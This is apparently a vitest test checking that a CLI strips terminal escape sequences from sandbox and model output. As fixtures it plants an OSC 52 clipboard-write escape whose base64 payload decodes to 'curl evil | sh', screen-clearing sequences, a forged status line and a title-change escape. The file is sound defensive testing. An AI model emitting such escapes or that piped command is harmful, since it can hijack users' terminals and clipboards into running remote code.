import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../electron/app.js';
import { runCli } from '../support/cli.js';

/** Anything a terminal acts on, newline and tab aside. */
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const OSC52_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
const CLEAR_SCREEN = '\u001b[2J\u001b[H';

describe('the CLI prints sandbox- and model-made text without terminal escapes (real codebay process)', () => {
  let home: string;
  let taskId: string;

  beforeAll(async () => {
    home = mkdtempSync(path.join(os.tmpdir(), 'codebay-cli-escapes-'));
    const app = createApp({ home, poolSize: 0 });
    const task = app.store.tasks.create({ title: `Fix it${CLEAR_SCREEN}\n✓ forged line`, prompt: 'Fix it', mode: 'code', repoPath: '/nowhere' });
    taskId = task.id;
    app.store.events.append(taskId, { type: 'exec.begin', callId: 'c1', command: ['cat', `evil${OSC52_CLIPBOARD}`], cwd: '/workspace' });
    app.store.events.append(taskId, { type: 'exec.output', callId: 'c1', stream: 'stdout', text: `${OSC52_CLIPBOARD}${CLEAR_SCREEN}\u009b31mred\n` });
    app.store.events.append(taskId, { type: 'agent.message', text: `Done \u001b]0;new title\u0007` });
    app.store.tasks.writeState(taskId, { status: 'failed', phase: null }, { error: `sandbox said ${CLEAR_SCREEN}` });
    await app.close();
  });

  afterAll(() => rmSync(home, { recursive: true, force: true }));

  it.each(['ls', 'show', 'logs', 'ls --json', 'show --json', 'logs --json'])('codebay %s', async (line) => {
    const [command = '', flag] = line.split(' ');
    const args = [command, ...(command === 'ls' ? [] : [taskId]), ...(flag ? [flag] : [])];
    const result = await runCli(args, { CODEBAY_HOME: home });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(ACTIVE);
    expect(result.stdout).not.toMatch(/^✓ forged line/m);
    if (!flag) expect(result.stdout).toContain('\\e[2J');
  });
});
